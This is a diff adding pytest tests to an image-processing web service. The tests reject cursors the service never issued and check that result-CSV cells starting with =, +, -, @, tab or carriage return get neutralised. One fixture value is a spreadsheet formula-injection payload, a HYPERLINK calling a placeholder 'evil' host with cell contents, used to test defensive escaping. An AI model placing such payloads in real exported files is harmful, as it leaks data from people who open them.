@@ -167,6 +167,36 @@ def test_bad_paging_parameters_are_problems(client, image_server, params):
     assert response.headers["content-type"] == "application/problem+json"
 
 
+def _cursor(text: str) -> str:
+    import base64
+
+    return base64.urlsafe_b64encode(text.encode()).decode().rstrip("=")
+
+
+FOREIGN_CURSORS = [
+    "djE6OTk5OTk5OTk5OTk5OTk5OTk5OTk",  # v1:99999999999999999999, more than any id
+    _cursor(f"v1:{2**63}"),
+    _cursor("v1:0"),
+    _cursor("v1:-1"),
+    _cursor("v1:007"),
+    _cursor("v1:\u0665"),  # an Arabic-Indic digit five
+    _cursor("v2:5"),
+    _cursor("v1:5") + "==",
+    _cursor("v1:5") + "!*",
+    "\u00e9t\u00e9",
+    "djE6" * 5000,
+]
+
+
+@pytest.mark.parametrize("cursor", FOREIGN_CURSORS)
+def test_a_cursor_the_service_did_not_issue_is_a_422_problem(client, image_server, cursor):
+    request_id = upload(client, csv_of([(1, "A", [image_server.add(images.jpeg())])])).json()["request_id"]
+    for path in (f"/status/{request_id}", "/requests"):
+        response = client.get(path, params={"cursor": cursor})
+        assert response.status_code == 422, (path, response.text)
+        assert response.headers["content-type"] == "application/problem+json"
+
+
 def test_requests_are_listed_newest_first_and_paged(make_settings, image_server):
     key = uuid.uuid4().hex  # a key of our own: the list shows only this test's requests
     settings = make_settings(api_keys=key)
@@ -181,6 +211,37 @@ def test_requests_are_listed_newest_first_and_paged(make_settings, image_server)
         second = client.get("/requests", params={"limit": 2, "cursor": first["next_cursor"]}, headers=headers)
         assert [item["request_id"] for item in second.json()["items"]] == ids[:1]
         assert second.json()["next_cursor"] is None
+
+
+FORMULA_NAMES = ['=HYPERLINK("http://evil/?"&A1,"x")', "+1+2", "-2+3", "@SUM(A1:A9)", "Shirt = blue"]
+
+
+def _downloaded_names(client, image_server) -> list[str]:
+    url = image_server.add(images.jpeg())
+    rows = [(serial, name, [url]) for serial, name in enumerate(FORMULA_NAMES, start=1)]
+    request_id = upload(client, csv_of(rows)).json()["request_id"]
+    wait_finished(client, request_id)
+    table = list(csv.reader(io.StringIO(client.get(f"/download/{request_id}").text)))
+    return [row[1] for row in table[1:]]
+
+
+def test_result_csv_cells_that_a_spreadsheet_would_run_are_neutralised(client, image_server):
+    assert _downloaded_names(client, image_server) == [
+        "'" + name if name[0] in "=+-@" else name for name in FORMULA_NAMES
+    ]
+
+
+def test_formula_escaping_can_be_turned_off(make_settings, image_server):
+    with TestClient(create_app(make_settings(csv_escape_formulas=False))) as client:
+        assert _downloaded_names(client, image_server) == FORMULA_NAMES
+
+
+@pytest.mark.parametrize("cell", ["=1+2", "+1", "-1", "@A1", "\tx", "\rx"])
+def test_every_formula_start_is_neutralised(cell):
+    from app.services.csv_input import neutralised
+
+    assert neutralised(cell) == "'" + cell
+    assert neutralised("a" + cell) == "a" + cell
 
 
 def test_unknown_request_is_a_404_problem(client):
